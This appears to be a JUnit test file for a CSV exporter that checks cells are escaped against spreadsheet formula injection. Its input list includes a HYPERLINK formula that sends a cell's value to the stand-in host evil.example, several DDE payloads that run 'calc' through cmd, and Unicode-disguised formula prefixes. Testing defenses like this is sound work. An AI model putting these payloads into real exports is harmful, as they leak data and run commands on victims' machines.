package waymark.web.lists;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.util.List;
import java.util.stream.IntStream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=HYPERLINK(\"https://evil.example?\"&A1,\"open\")",
                "=cmd|' /C calc'!A0",
                "+1+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "\0=1+1",
                " =1+1",
                "\u00a0=1+1",
                "\u200b=1+1",
                "\ufeff=1+1",
                "\u202e=1+1",
                "\uff1d1+1",
                "\uff0b1",
                "\uff0d1",
                "\uff20A1",
                "|calc",
                "%0A=1"
            })
    void no_cell_begins_like_a_formula(String cell) throws IOException {
        assertThat(read(cell).charAt(0)).isEqualTo('\'');
    }

    @Test
    void whatever_is_in_a_cell_stays_in_it() throws IOException {
        for (var cell :
                List.of("a,b", "a\"b", "a\r\nb", "\",\"=1+1", "a;=1+1", "x\n=1+1", "Ann O'Neil", "é 😀 עברית")) {
            assertThat(read(cell)).isEqualTo(cell);
        }
    }

    @Test
    void numbers_stay_numbers() throws IOException {
        assertThat(Csv.text(List.of("A"), List.of(List.of(-5), List.of(2.5)))).contains("\r\n-5\r\n2.5");
    }

    @Test
    void every_letter_there_is_may_stand_first() throws IOException {
        var letters = IntStream.rangeClosed(0, Character.MAX_CODE_POINT)
                .filter(letter -> letter < Character.MIN_SURROGATE || letter > Character.MAX_SURROGATE)
                .filter(letter -> letter % 97 == 0 || letter < 0x3000)
                .mapToObj(letter -> Character.toString(letter) + "=1+1")
                .toList();
        var text = Csv.text(List.of("A"), letters.stream().map(List::of).toList());
        try (var rows = CSVParser.parse(text, CSVFormat.RFC4180)) {
            assertThat(rows.stream().count()).isEqualTo(letters.size() + 1L);
        }
    }

    /// The cell as a spreadsheet reads it back.
    private static String read(String cell) throws IOException {
        try (var rows =
                CSVParser.parse(Csv.text(List.of("A", "B"), List.of(List.of(cell, "last"))), CSVFormat.RFC4180)) {
            var row = rows.getRecords().get(1);
            assertThat(row.size()).isEqualTo(2);
            assertThat(row.get(1)).isEqualTo("last");
            return row.get(0);
        }
    }
}
